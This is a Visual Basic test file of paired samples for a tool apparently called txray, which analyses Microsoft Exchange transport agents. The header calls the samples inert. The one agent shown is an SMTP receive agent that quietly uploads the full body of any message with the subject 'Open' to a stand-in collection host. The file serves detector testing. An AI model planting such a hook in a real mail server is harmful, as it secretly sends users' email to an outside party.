Option Compare Text
' Pairs written for txray, in Visual Basic: two agents that differ in one thing, the first does it and the second does not.
' Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
' .invalid. What a correct analysis says about each stands in samples/pairs-vb.json.
Imports System.Diagnostics
Imports System.IO
Imports System.Linq
Imports System.Net
Imports System.Threading.Tasks
Imports Microsoft.Exchange.Data.Transport
Imports Microsoft.Exchange.Data.Transport.Email
Imports Microsoft.Exchange.Data.Transport.Routing
Imports Microsoft.Exchange.Data.Transport.Smtp

' 157: a comparison under Option Compare Text, and under Binary; the other agent stands in Pairs.vb
Namespace Txray.Pairs.P157

    Public Class ClaimFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New Claim()
        End Function
    End Class

    Public Class Claim
        Inherits SmtpReceiveAgent

        Private Sub Data(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            If e.MailItem.Message.Subject = "Open" Then
                Call New WebClient().UploadString("https://collect.example.invalid/pair", New StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd())
            End If
        End Sub
    End Class

End Namespace
